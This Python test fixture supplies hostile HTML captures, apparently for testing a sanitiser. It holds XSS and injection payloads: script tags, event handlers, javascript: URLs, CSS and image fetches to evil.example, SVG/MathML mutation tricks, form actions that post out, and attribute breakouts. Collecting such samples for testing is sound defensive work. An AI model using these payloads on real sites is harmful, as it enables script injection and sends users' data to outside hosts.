"""Captures that try to run, load, send or escape when they are looked at.

Every address in them is `evil.example`, every script says `pwned`.
"""

EVIL = "https://evil.example"

HOSTILE: dict[str, str] = {
    "script": f"<p>words<script src='{EVIL}/a.js'></script><script>pwned()</script>",
    "script in pieces": "<scr<script>ipt>pwned()</scr</script>ipt><p>words",
    "handlers": "<p onclick=pwned()>words<img src=x onerror=pwned()><body onload='pwned()'>",
    "handler without a space": "<p/onclick=pwned()>words<details ontoggle=pwned() open>",
    "addresses that run": (
        "<a href='javascript:pwned()'>words</a><a href='java\tscript:pwned()'>more</a>"
        "<a href='&#106;avascript:pwned()'>x</a><a href='vbscript:pwned()'>y</a>"
        "<a href='data:text/html,<script>pwned()</script>'>z</a>"
    ),
    "style sheet": (
        f"<style>@import url({EVIL}/a.css);body{{background:url({EVIL}/b.png)}}"
        f"@font-face{{font-family:x;src:url({EVIL}/f.woff)}}</style>"
        f"<link rel=stylesheet href='{EVIL}/c.css'><link rel=preload as=image href='{EVIL}/d'>"
        f"<link rel=dns-prefetch href='//evil.example'><p>words"
    ),
    "style attributes": (
        f"<p style=\"background:url('{EVIL}/a.png')\">words</p>"
        f"<p style='background-image:image-set(\"{EVIL}/b.png\" 1x)'>more</p>"
        f"<p style='list-style-type:url({EVIL}/c.png);text-align:u\\72l({EVIL}/d)'>x</p>"
        "<p style='position:fixed;inset:0;width:expression(pwned())'>y</p>"
    ),
    "svg": (
        f"<svg onload=pwned()><script>pwned()</script><image href='{EVIL}/a.png'/>"
        f"<use href='{EVIL}/b.svg#x'/><foreignObject><iframe src='{EVIL}'></iframe>"
        f"</foreignObject><animate attributeName=href values='javascript:pwned()'/></svg><p>words"
    ),
    "mathml": (
        "<p>words<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></math>"
    ),
    "refresh and base": (
        f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}/'>"
        "<meta http-equiv=Content-Security-Policy content='default-src *'><p>words"
    ),
    "frames": (
        f"<iframe src='{EVIL}' srcdoc='<script>pwned()</script>'></iframe>"
        f"<frameset onload=pwned()><frame src='{EVIL}'></frameset><p>words"
    ),
    "objects": (
        f"<object data='{EVIL}/a.swf'><param name=movie value='{EVIL}/b'></object>"
        f"<embed src='{EVIL}/c'><applet code='{EVIL}/d'></applet><p>words"
    ),
    "form": (
        f"<form action='{EVIL}' method=post><input name=a autofocus onfocus=pwned()>"
        f"<button formaction='{EVIL}'>words</button><textarea>t</textarea>"
        f"<isindex action='{EVIL}'></form>"
    ),
    "pictures": (
        f"<img src='{EVIL}/a.png' srcset='{EVIL}/b.png 2x' alt=words lowsrc='{EVIL}/c'>"
        f"<picture><source srcset='{EVIL}/d.webp'><img src='//evil.example/e'></picture>"
        f"<video poster='{EVIL}/f' src='{EVIL}/g' autoplay></video><audio src='{EVIL}/h'></audio>"
        f"<table background='{EVIL}/i'><tr><td background='{EVIL}/j'>more</table>"
        f"<input type=image src='{EVIL}/k'>"
    ),
    "picture that is a drawing": (
        "<img alt=words src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4='>words"
    ),
    "links that fetch": f"<a ping='{EVIL}/a' href='{EVIL}/b'>words</a><a href='/c'>more</a>",
    "broken nesting": (
        "<table><a><p>words</table></a><b><i>more</b></i></p><select><template><script>pwned()"
        "</script></template><noscript><p title='</noscript><img src=x onerror=pwned()>'>"
    ),
    "raw text": (
        "<xmp><script>pwned()</script></xmp><noembed><img src=x onerror=pwned()></noembed>"
        "<title><img src=x onerror=pwned()></title>words<plaintext><script>pwned()</script>"
    ),
    "attributes that break out": (
        "<p title='\"><script>pwned()</script>' lang='x\" onclick=\"pwned()'>words</p>"
        '<img alt="`><script>pwned()</script>" src=\'data:image/png;base64,AA" onerror=pwned()\'>'
    ),
    "comments": (
        "<!--><script>pwned()</script>--><!--[if IE]><script>pwned()</script><![endif]-->words"
    ),
    "processing": (
        f"<?xml-stylesheet href='{EVIL}/a.css'?><![CDATA[<script>pwned()</script>]]>words"
    ),
    "names that shadow": "<p id=words name=body>words<a id=token name=getElementById>x</a>",
    "deep": "<div>" * 4_000 + "words" + "</div>" * 4_000,
    "null and controls": "<scr\0ipt>pwned()</scr\0ipt><p on\0click=pwned()>words\x1b[31m",
}
